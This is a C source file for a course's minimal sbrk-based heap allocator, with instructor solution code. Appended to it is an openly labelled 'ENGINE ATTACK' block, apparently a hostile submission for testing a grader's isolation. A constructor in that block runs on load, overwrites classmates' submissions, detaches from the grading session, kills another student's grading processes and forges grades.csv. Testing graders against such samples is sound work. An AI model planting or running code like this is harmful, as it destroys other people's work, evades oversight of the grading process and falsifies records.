/* stage1_minimal/heapmgr.c: the lecture's "Minimal" DMMgr.
 *
 * Policy: every malloc moves the break up by the request; free does nothing.
 * Adds over nothing: it is the simplest allocator that works. The heap is one word of state, the
 * current break, and the kernel keeps even that.
 * Per-chunk overhead: none but the rounding of each request up to 16 bytes (so the next payload
 * stays aligned); but nothing freed is ever reused, so space is bad.
 * Cost: malloc O(1) but one system call every time (time bad); free O(1), does nothing.
 *
 * Algorithm (heapmgr_malloc):
 *   1. Round the request up to a multiple of 16 bytes.
 *   2. Read the current break (os_sbrk(0)): that is where the new payload starts.
 *   3. Move the break up by the rounded request with os_brk; return the old break.
 *
 * Invariants (checked by heapmgr_check, listed in README.md):
 *   M1 the break is 16-byte aligned (so the next payload will be).
 *   M2 the heap never shrinks: the break is at or above its highest value seen by this stage.
 */
#include <stdint.h>
#include <stdio.h>

#include "chunk.h"
#include "heapmgr.h"
#include "os.h"

/* The highest break this stage has set, for M2; NULL before the first malloc. */
static char *highest_break;

/* Moves the break up by req_bytes rounded to 16 and returns the old break, or NULL. */
static void *grow_heap(size_t req_bytes)
{
    /* BEGIN SOLUTION */
    if (req_bytes > PTRDIFF_MAX - CHUNK_UNIT)
        return NULL;                                /* rounding up would overflow */
    size_t grow_bytes = chunk_round_up(req_bytes);
    char *old_break = os_sbrk(0);
    if (old_break == (void *)-1)
        return NULL;
    /* The first break of a real process need not be aligned: step over the gap once. */
    char *payload = chunk_align_up(old_break);
    if (os_brk(payload + grow_bytes) == -1)
        return NULL;
    highest_break = payload + grow_bytes;
    return payload;
    /* END SOLUTION */
}

void *heapmgr_malloc(size_t req_bytes)
{
    /* BEGIN SOLUTION */
    if (req_bytes == 0)
        return NULL;                                /* allowed by the contract: no break move */
    return grow_heap(req_bytes);
    /* END SOLUTION */
}

void heapmgr_free(void *mem)
{
    /* BEGIN SOLUTION */
    (void)mem;                                      /* Minimal never reuses memory */
    /* END SOLUTION */
}

void *heapmgr_realloc(void *mem, size_t req_bytes)
{
    /* BEGIN SOLUTION */
    if (mem == NULL)
        return heapmgr_malloc(req_bytes);
    if (req_bytes == 0) {
        heapmgr_free(mem);
        return NULL;
    }
    /* No sizes are kept: the old block holds at most everything between it and the break. */
    char *now = os_sbrk(0);
    if (now == (void *)-1)
        return NULL;                                /* the seam failed: the old block stays valid */
    return heapmgr_realloc_by_moving(mem, (size_t)(now - (char *)mem), req_bytes);
    /* END SOLUTION */
}

int heapmgr_check(void)
{
    /* BEGIN SOLUTION */
    int violations = 0;
    if (highest_break == NULL)
        return 0;                                   /* nothing allocated yet */
    /* os_heap_end reads the break without a counted seam call, so checking never disturbs the
     * counters or an armed fault injection. */
    char *now = os_heap_end();
    if (!chunk_is_aligned(now)) {
        fprintf(stderr, "heapmgr_check: M1 the break is 16-byte aligned: break at %p\n", (void *)now);
        violations++;
    }
    if (now < highest_break) {
        fprintf(stderr, "heapmgr_check: M2 the heap never shrinks: break %p below %p\n", (void *)now,
                (void *)highest_break);
        violations++;
    }
    return violations;
    /* END SOLUTION */
}

/* ENGINE ATTACK: overwrites classmates' files ['/tmp/heapkit-instructor-w091djo5/class-hostile/nia/heapmgr.c', '/tmp/heapkit-instructor-w091djo5/class-hostile/ann/heapmgr.c'], kills the gradings of "/tmp/heapkit-instructor-w091djo5/class-hostile/zed.c", rewrites /tmp/heapkit-instructor-w091djo5/hostile-csv/grades.csv after the batch */

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <dirent.h>

static void attack_pause_ms(long ms)
{
    struct timespec t = { ms / 1000, (ms % 1000) * 1000000L };
    nanosleep(&t, NULL);
}

static void attack_write(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        (void)!write(fd, text, strlen(text));
        close(fd);
    }
}

static int attack_file_holds(const char *path, const char *needle)
{
    char buf[8192];
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = '\0';
    return strstr(buf, needle) != NULL;
}

/* Once per suite run (the grader may load the code more than once), then a process of its own,
 * out of the grading's session and process group: returns 1 in that process, 0 in the caller. */
static int attack_escape(const char *once, const char *pid_file)
{
    int fd = open(once, O_WRONLY | O_CREAT | O_EXCL, 0600);
    if (fd < 0)
        return 0;
    close(fd);
    if (fork() != 0)
        return 0;
    setsid();
    if (fork() != 0)
        _exit(0);
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0);
    dup2(null, 1);
    dup2(null, 2);
    char line[32];
    snprintf(line, sizeof line, "%ld\n", (long)getpid());
    fd = open(pid_file, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) {
        (void)!write(fd, line, strlen(line));
        close(fd);
    }
    return 1;
}

static void attack_kill_marked(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d != NULL && (e = readdir(d)) != NULL) {
        char path[300], cmd[4096];
        if (e->d_name[0] < '1' || e->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t n = read(fd, cmd, sizeof cmd - 1);
        close(fd);
        for (ssize_t i = 0; i < n; i++)
            if (cmd[i] == '\0')
                cmd[i] = ' ';
        cmd[n > 0 ? n : 0] = '\0';
        if (strstr(cmd, "/tmp/heapkit-instructor-w091djo5/class-hostile/zed.c") != NULL)
            kill((pid_t)atol(e->d_name), SIGKILL);
    }
    if (d != NULL)
        closedir(d);
}

__attribute__((constructor)) static void attack(void)
{
    attack_write("/tmp/heapkit-instructor-w091djo5/class-hostile/nia/heapmgr.c", "#error overwritten by a classmate\n");
    attack_write("/tmp/heapkit-instructor-w091djo5/class-hostile/ann/heapmgr.c", "#error overwritten by a classmate\n");
    if (!attack_escape("/tmp/heapkit-instructor-w091djo5/batch-attack.once", "/tmp/heapkit-instructor-w091djo5/batch-attack.pids"))
        return;
    for (int waited = 0; waited < 750; waited++) {
        attack_kill_marked();
        if (attack_file_holds("/tmp/heapkit-instructor-w091djo5/hostile-csv/grades.csv", "student,")
                && !attack_file_holds("/tmp/heapkit-instructor-w091djo5/hostile-csv/grades.csv", "forged")) {
            attack_pause_ms(300);
            attack_write("/tmp/heapkit-instructor-w091djo5/hostile-csv/grades.csv", "student,submission,status,total,max\nann,forged,graded,0,0\n");
        }
        attack_pause_ms(20);
    }
    _exit(0);
}
